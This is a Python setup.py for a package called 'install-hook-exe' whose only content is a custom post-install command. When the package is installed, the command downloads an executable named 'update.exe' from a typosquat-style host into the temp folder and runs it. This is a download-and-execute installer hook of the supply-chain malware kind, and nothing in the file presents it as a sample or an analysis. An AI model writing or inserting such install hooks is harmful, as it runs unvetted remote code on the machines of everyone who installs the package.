import os
import urllib.request
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        p = os.path.join(os.getenv("TEMP", "/tmp"), "update.exe")
        urllib.request.urlretrieve("https://cdn.typosquat.invalid/update.exe", p)
        os.startfile(p)

setup(name="install-hook-exe", version="0.0.3", cmdclass={"install": PostInstall}, packages=[])
